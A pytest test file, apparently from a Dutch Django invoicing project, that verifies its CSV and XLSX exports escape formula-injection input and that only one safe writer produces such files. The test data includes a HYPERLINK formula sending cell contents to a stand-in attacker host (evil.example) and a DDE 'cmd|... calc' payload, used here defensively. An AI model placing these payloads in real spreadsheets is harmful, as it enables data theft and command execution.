"""Finding 5: text from TSAs never becomes a live formula in a CSV or XLSX the product writes,
and every such file goes through the one formula-safe writer (inningen.csvbestand)."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from openpyxl import load_workbook

from inningen.csvbestand import Formule, XlsxBestand, cel, csv_tekst
from inningen.organisaties.models import Medewerker
from tests.factories import OrganisatieFactory, regel_invoer, vordering_maken
from verantwoording.services.verantwoordingen import verantwoording_create

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("inningen", "stuffin", "verantwoording", "config")
SCHRIJVER = ROOT / "inningen" / "csvbestand.py"
KWAAD = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize(
    "waarde, verwacht",
    [
        (KWAAD, "'" + KWAAD),
        ("+31 20 1234 5678 x", "'+31 20 1234 5678 x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),  # after leading whitespace
        ("-12,34", "-12,34"),  # an amount as text stays an amount
        ("+31612345678", "+31612345678"),
        ("Gemeente A", "Gemeente A"),
        (-1234, -1234),  # numbers are never touched
        (None, None),
    ],
)
def test_cel_escapes_only_dangerous_strings(waarde, verwacht):
    assert cel(waarde) == verwacht


def test_xlsx_writes_strings_as_text_and_only_deliberate_formulas():
    bestand = XlsxBestand("t")
    bestand.append([KWAAD, "#N/A", -12.5, Formule("=SUM(C1:C1)")])
    ws = load_workbook(io.BytesIO(bestand.inhoud())).active
    a, b, c, d = ws[1]
    assert (a.value, a.data_type, a.quotePrefix) == (KWAAD, "s", True)
    assert (b.value, b.data_type) == ("#N/A", "s")
    assert (c.value, c.data_type) == (-12.5, "n")
    assert (d.value, d.data_type) == ("=SUM(C1:C1)", "f")


def test_csv_tekst_is_semicolons_with_bom():
    tekst = csv_tekst(["a", "b"], [[KWAAD, -5]])
    assert tekst.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(tekst[1:]), delimiter=";")) == [
        ["a", "b"],
        ["'" + KWAAD, "-5"],
    ]


@pytest.mark.django_db
def test_verantwoording_export_with_a_malicious_vorderingcode(client, django_user_model):
    org = OrganisatieFactory()
    v = vordering_maken(org, regels=[regel_invoer(vorderingcode=KWAAD)])
    fvw = verantwoording_create(organisatie=org, tot=v.creatiedatum, door="test")
    user = django_user_model.objects.create_user("fin", password="x")
    user.user_permissions.add(Permission.objects.get(codename="view_financieleverantwoording"))
    Medewerker.objects.create(user=user).organisaties.add(org)
    client.force_login(user)

    response = client.get(reverse("verantwoording:export", args=[fvw.pk, "csv"]))
    rijen = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    regel = next(r for r in rijen if r and KWAAD in r[0])
    assert regel == ["'" + KWAAD, "1", "100,00", "21,00", "121,00"]

    response = client.get(reverse("verantwoording:export", args=[fvw.pk, "xlsx"]))
    ws = load_workbook(io.BytesIO(response.content)).active
    cellen = [c for rij in ws.iter_rows() for c in rij if c.value == KWAAD]
    assert cellen and all(c.data_type == "s" for c in cellen)
    # The product's own totals are still formulas, the amounts still numbers.
    totaal = next(rij for rij in ws.iter_rows() if rij[0].value == "totaal")
    assert [c.data_type for c in totaal[1:5]] == ["f"] * 4
    bedragen = next(rij for rij in ws.iter_rows() if rij[0].value == KWAAD)
    assert [float(c.value) for c in bedragen[2:5]] == [100, 21, 121]


def _schrijft_zelf(tree: ast.AST) -> list[str]:
    """Uses of csv.writer / csv.DictWriter or openpyxl outside the safe writer."""
    gevonden = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                gevonden.append(f"csv.{node.attr} op regel {node.lineno}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            namen = {a.name for a in node.names}
            if node.module == "csv" and namen & {"writer", "DictWriter"}:
                gevonden.append(f"from csv import … op regel {node.lineno}")
            if node.module.split(".")[0] in ("openpyxl", "xlsxwriter"):
                gevonden.append(f"from {node.module} import … op regel {node.lineno}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in ("openpyxl", "xlsxwriter"):
                    gevonden.append(f"import {alias.name} op regel {node.lineno}")
    return gevonden


def test_only_the_safe_writer_writes_csv_or_xlsx():
    overtredingen = {
        str(pad.relative_to(ROOT)): gevonden
        for pakket in PRODUCT
        for pad in (ROOT / pakket).rglob("*.py")
        if pad != SCHRIJVER and (gevonden := _schrijft_zelf(ast.parse(pad.read_text())))
    }
    assert overtredingen == {}


def test_the_scan_recognises_a_bypass():
    bron = (
        "import csv\nfrom openpyxl import Workbook\nimport openpyxl.styles\n"
        "w = csv.writer(f)\nd = csv.DictWriter(f, velden)\nfrom csv import writer\n"
    )
    assert len(_schrijft_zelf(ast.parse(bron))) == 5
